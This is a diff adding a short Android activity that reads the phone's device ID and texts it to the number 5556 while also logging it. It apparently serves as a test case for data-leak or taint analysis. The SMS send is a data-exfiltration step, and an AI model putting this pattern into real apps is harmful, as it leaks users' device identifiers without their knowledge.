@@ -1,0 +1,34 @@
+package org.brookside.ways;
+
+import android.app.*;
+import android.content.*;
+import android.content.res.Configuration;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.lang.ref.*;
+import java.lang.reflect.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.concurrent.atomic.*;
+import java.util.regex.*;
+
+/** On the thread of the screen and by a view. */
+public class Shown extends Case {
+    @Override protected void onCreate(Bundle s) {
+        super.onCreate(s);
+        final String f = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
+        runOnUiThread(new Runnable() { public void run() { SmsManager.getDefault().sendTextMessage("5556", null, f, null, null); } });
+        new View(this).postDelayed(new Runnable() { public void run() { Log.d("x", f); } }, 10);
+    }
+}
